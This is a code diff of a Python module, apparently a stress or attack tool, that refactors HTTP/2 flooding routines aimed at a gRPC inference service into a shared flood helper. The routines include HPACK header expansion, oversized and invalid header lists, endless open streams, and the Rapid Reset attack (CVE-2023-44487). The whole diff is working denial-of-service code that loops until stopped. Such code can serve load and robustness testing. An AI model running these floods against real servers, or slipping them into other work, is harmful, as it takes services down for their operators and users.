@@ -9,7 +9,7 @@ import socket
 import struct
 import time
 import zlib
-from collections.abc import Iterable
+from collections.abc import Callable, Iterable
 from threading import Event
 
 INFER = "/inference.GRPCInferenceService/ModelInfer"
@@ -80,49 +80,48 @@ def _close(connections: Iterable[socket.socket]) -> None:
         connection.close()
 
 
+def _flood(
+    host: str, port: int, stop: Event, stream: Callable[[int], bytes], at_once: int = 1
+) -> int:
+    """Opens streams without end, some in one piece; each is what `stream` makes of its number."""
+    sent = 0
+    while not stop.is_set():
+        try:
+            with connected(host, port) as connection:
+                for first in range(1, 2**30, 2 * at_once):
+                    if stop.is_set():
+                        break
+                    data = b"".join(map(stream, range(first, first + 2 * at_once, 2)))
+                    connection.sendall(data)
+                    sent += len(data)
+                    _read_away(connection)
+        except OSError:
+            time.sleep(0.01)
+    return sent
+
+
 def small_headers(host: str, port: int, stop: Event) -> int:
     """Header lists without end, of fields that take one byte each and expand to many.
 
     A field goes into HPACK's table once; after that each byte is that field again.
     """
-    first = _call_head() + _field(b"k", b"v" * 64, 0x40)
+    head = _call_head()
     again = b"\xbe" * (_FRAME - 1)  # the newest of the table
-    sent = 0
-    while not stop.is_set():
-        try:
-            with connected(host, port) as connection:
-                stream, block = 1, first
-                while not stop.is_set():
-                    parts = [_frame(_HEADERS, 0, stream, block)]
-                    parts += [_frame(_CONTINUATION, 0, stream, again)] * 3
-                    parts.append(_frame(_CONTINUATION, _END_HEADERS, stream, again))
-                    data = b"".join(parts)
-                    connection.sendall(data)
-                    sent += len(data)
-                    _read_away(connection)
-                    stream, block = stream + 2, _call_head()
-        except OSError:
-            time.sleep(0.01)
-    return sent
+
+    def stream(number: int) -> bytes:
+        block = head + _field(b"k", b"v" * 64, 0x40) if number == 1 else head
+        parts = [_frame(_HEADERS, 0, number, block)]
+        parts += [_frame(_CONTINUATION, 0, number, again)] * 3
+        parts.append(_frame(_CONTINUATION, _END_HEADERS, number, again))
+        return b"".join(parts)
+
+    return _flood(host, port, stop, stream)
 
 
 def header_frames(host: str, port: int, stop: Event, size: int = 16_000) -> int:
     """Calls whose header lists are of many small fields, all open at once."""
     head = _call_head() + _field(b"a", b"") * (size // 4)
-    sent = 0
-    while not stop.is_set():
-        try:
-            with connected(host, port) as connection:
-                for stream in range(1, 2**20, 2):
-                    if stop.is_set():
-                        break
-                    data = _frame(_HEADERS, _END_HEADERS, stream, head)
-                    connection.sendall(data)
-                    sent += len(data)
-                    _read_away(connection)
-        except OSError:
-            time.sleep(0.01)
-    return sent
+    return _flood(host, port, stop, lambda n: _frame(_HEADERS, _END_HEADERS, n, head))
 
 
 def unfinished_calls(
@@ -184,63 +183,25 @@ def idle_connections(
 
 def bad_headers(host: str, port: int, stop: Event) -> int:
     """Header lists of thousands of fields that gRPC says are wrong, each of them."""
-    block = _call_head() + _field(b"te", b"x") * 2000
-    sent = 0
-    while not stop.is_set():
-        try:
-            with connected(host, port) as connection:
-                for stream in range(1, 2**20, 2):
-                    if stop.is_set():
-                        break
-                    data = _frame(_HEADERS, _END_HEADERS, stream, block)
-                    connection.sendall(data)
-                    sent += len(data)
-                    _read_away(connection)
-        except OSError:
-            time.sleep(0.01)
-    return sent
+    head = _call_head() + _field(b"te", b"x") * 2000
+    return _flood(host, port, stop, lambda n: _frame(_HEADERS, _END_HEADERS, n, head))
 
 
 def rapid_reset(host: str, port: int, stop: Event) -> int:
     """Calls that are taken back at once, as many as go through (CVE-2023-44487)."""
-    head, sent = _call_head(), 0
-    cancel = struct.pack(">I", 8)
-    while not stop.is_set():
-        try:
-            with connected(host, port) as connection:
-                stream = 1
-                while not stop.is_set() and stream < 2**30:
-                    data = b""
-                    for _ in range(100):
-                        data += _frame(_HEADERS, _END_HEADERS, stream, head)
-                        data += _frame(_RST_STREAM, 0, stream, cancel)
-                        stream += 2
-                    connection.sendall(data)
-                    sent += len(data)
-                    _read_away(connection)
-        except OSError:
-            time.sleep(0.001)
-    return sent
+    head, cancel = _call_head(), struct.pack(">I", 8)
+
+    def stream(number: int) -> bytes:
+        call = _frame(_HEADERS, _END_HEADERS, number, head)
+        return call + _frame(_RST_STREAM, 0, number, cancel)
+
+    return _flood(host, port, stop, stream, at_once=100)
 
 
 def many_streams(host: str, port: int, stop: Event) -> int:
     """Calls without end on one connection, none of which is finished or taken back."""
-    head, sent = _call_head(), 0
-    while not stop.is_set():
-        try:
-            with connected(host, port) as connection:
-                stream = 1
-                while not stop.is_set() and stream < 2**30:
-                    data = b""
-                    for _ in range(100):
-                        data += _frame(_HEADERS, _END_HEADERS, stream, head)
-                        stream += 2
-                    connection.sendall(data)
-                    sent += len(data)
-                    _read_away(connection)
-        except OSError:
-            time.sleep(0.001)
-    return sent
+    head = _call_head()
+    return _flood(host, port, stop, lambda n: _frame(_HEADERS, _END_HEADERS, n, head), at_once=100)
 
 
 def control_frames(host: str, port: int, stop: Event) -> int:
